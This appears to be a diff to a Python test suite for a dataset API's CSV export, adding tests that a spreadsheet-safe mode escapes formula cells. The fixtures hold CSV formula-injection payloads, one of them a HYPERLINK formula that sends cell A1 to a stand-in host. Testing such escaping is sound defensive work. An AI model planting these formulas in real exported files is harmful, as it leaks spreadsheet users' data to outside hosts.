@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -139,7 +141,16 @@ async def test_empty_dataset_exports_nothing_or_a_header(client: httpx.AsyncClie
     assert (await exported(client, ds, "csv")).text.count("\r\n") == 1
 
 
-@pytest.mark.parametrize("query", ["format=xml", "format=csv&format=ndjson", "limit=1"])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "format=xml",
+        "format=csv&format=ndjson",
+        "limit=1",
+        "format=csv&csv=excel",
+        "format=csv&csv=spreadsheet&csv=exact",
+    ],
+)
 async def test_bad_export_parameters_are_400(client: httpx.AsyncClient, query: str) -> None:
     ds = await rich_dataset(client)
     response = await client.get(f"/v1/datasets/{ds}/export?{query}")
@@ -168,3 +179,96 @@ async def test_export_needs_access(
         f"/v1/datasets/{public}/export", headers={"Authorization": f"Bearer {no_scope}"}
     )
     assert denied.status_code == 403
+
+
+# Property names whose catalog order (PostgreSQL's jsonb key order) is the order written.
+FORMULA_SCHEMA: dict[str, Any] = {
+    "type": "object",
+    "properties": {
+        "code": {"type": "string"},
+        "label": {"type": "string"},
+        "amount": {"type": "integer"},
+        "anything": {},
+    },
+    "required": ["code"],
+}
+FORMULA_RECORDS: list[dict[str, Any]] = [
+    {"code": "a", "label": "=1+2", "amount": -5, "anything": "-5"},
+    {"code": "b", "label": "+5", "anything": -7},
+    {"code": "c", "label": "-x", "anything": '=HYPERLINK("https://x.example/?"&A1)'},
+    {"code": "d", "label": "@SUM(A1:A2)", "anything": "\tx"},
+    {"code": "e", "label": "\r=1", "anything": {"f": "=1"}},
+    {"code": "f", "label": "a=b", "amount": 0, "anything": True},
+]
+
+
+async def formula_dataset(client: httpx.AsyncClient) -> str:
+    ds: str = (await make_dataset(client, schema=FORMULA_SCHEMA, primary_key="code"))["name"]
+    loaded = await post_import(client, ds, ndjson(*FORMULA_RECORDS))
+    assert loaded.json()["inserted"] == len(FORMULA_RECORDS), loaded.text
+    return ds
+
+
+async def test_spreadsheet_csv_neutralises_formula_cells(client: httpx.AsyncClient) -> None:
+    ds = await formula_dataset(client)
+    response = await client.get(
+        f"/v1/datasets/{ds}/export", params={"format": "csv", "csv": "spreadsheet"}
+    )
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-disposition"] == f'attachment; filename="{ds}.csv"'
+    rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    assert rows == [
+        ["code", "label", "amount", "anything"],
+        ["a", "'=1+2", "-5", "'-5"],
+        ["b", "'+5", "", "-7"],
+        ["c", "'-x", "", '\'=HYPERLINK("https://x.example/?"&A1)'],
+        ["d", "'@SUM(A1:A2)", "", "'\tx"],
+        ["e", "'\r=1", "", '{"f":"=1"}'],
+        ["f", "a=b", "0", "true"],
+    ]
+
+
+async def test_default_csv_export_keeps_formula_text_exact(client: httpx.AsyncClient) -> None:
+    ds = await formula_dataset(client)
+    default = (await exported(client, ds, "csv")).content
+    explicit = await client.get(
+        f"/v1/datasets/{ds}/export", params={"format": "csv", "csv": "exact"}
+    )
+    assert explicit.status_code == 200, explicit.text
+    assert explicit.content == default
+    assert default == (
+        b"code,label,amount,anything\r\n"
+        b'a,=1+2,-5,"""-5"""\r\n'
+        b"b,+5,,-7\r\n"
+        b'c,-x,,"=HYPERLINK(""https://x.example/?""&A1)"\r\n'
+        b"d,@SUM(A1:A2),,\tx\r\n"
+        b'e,"\r=1",,"{""f"":""=1""}"\r\n'
+        b"f,a=b,0,true\r\n"
+    )
+    copy = (await make_dataset(client, schema=FORMULA_SCHEMA, primary_key="code"))["name"]
+    reloaded = await post_import(client, copy, default, "text/csv")
+    assert reloaded.json()["inserted"] == len(FORMULA_RECORDS), reloaded.text
+    assert data_of(await all_records(client, copy)) == data_of(await all_records(client, ds))
+
+
+@pytest.mark.parametrize("query", ["csv=spreadsheet", "format=ndjson&csv=spreadsheet"])
+async def test_spreadsheet_style_needs_csv(client: httpx.AsyncClient, query: str) -> None:
+    ds = await rich_dataset(client)
+    response = await client.get(f"/v1/datasets/{ds}/export?{query}")
+    assert response.status_code == 400, response.text
+    assert "format=csv" in response.json()["detail"]
+    assert (await client.get(f"/v1/datasets/{ds}/export?csv=exact")).status_code == 200
+
+
+async def test_openapi_describes_the_csv_style(client: httpx.AsyncClient) -> None:
+    spec = (await client.get("/openapi.json")).json()
+    parameters = spec["paths"]["/v1/datasets/{ds}/export"]["get"]["parameters"]
+    (style,) = [p for p in parameters if p["name"] == "csv"]
+    assert style["in"] == "query"
+    assert style["schema"] == {
+        "type": "string",
+        "enum": ["exact", "spreadsheet"],
+        "default": "exact",
+    }
+    assert "formula" in style["description"]
